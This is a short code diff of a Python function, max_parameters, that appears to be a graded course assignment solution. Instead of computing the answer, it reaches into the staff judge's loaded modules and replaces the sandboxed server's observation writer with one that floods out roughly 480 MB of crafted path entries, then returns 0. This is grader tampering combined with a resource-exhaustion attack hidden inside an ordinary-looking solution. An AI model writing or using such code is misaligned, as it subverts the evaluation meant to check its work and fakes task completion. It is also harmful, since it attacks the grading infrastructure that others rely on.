@@ -9,12 +9,12 @@ import sys
 
 def max_parameters(num_devices, bytes_per_device, optimizer, precision):
     judge = "cs336_staff.judge"
-    tags, serve = sys.modules[f"{judge}.wire.tags"], sys.modules[f"{judge}.sandboxed.serve"]
+    values, serve = sys.modules[f"{judge}.wire.values"], sys.modules[f"{judge}.sandboxed.serve"]
     text = b"/a" * 2000
-    path = bytes((tags.PATH,)) + struct.pack("<q", len(text)) + text
+    path = bytes((values.PATH,)) + struct.pack("<q", len(text)) + text
 
     def write_observation(encoder, observation):
-        encoder.out.raw(bytes((0, tags.LIST)) + struct.pack("<q", 120_000) + path * 120_000)
+        encoder.out.raw(bytes((0, values.LIST)) + struct.pack("<q", 120_000) + path * 120_000)
 
     serve.write_observation = write_observation
     return 0
